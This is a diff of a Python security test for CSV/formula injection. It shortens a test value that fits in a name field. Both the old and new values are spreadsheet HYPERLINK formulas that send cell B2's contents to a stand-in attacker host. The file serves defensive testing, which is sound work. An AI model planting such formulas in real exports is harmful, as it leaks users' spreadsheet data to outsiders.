@@ -23,7 +23,7 @@ from tests.security.probes import routes
 
 # What a spreadsheet runs as a formula (OWASP "CSV injection"); a cell beginning with "'" is neutralised.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-POISON = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
+POISON = '=HYPERLINK("http://ev.il/?"&B2,"查看")'  # within the 40 characters of a name
 
 
 def formula_cells(content: bytes) -> list[str]:
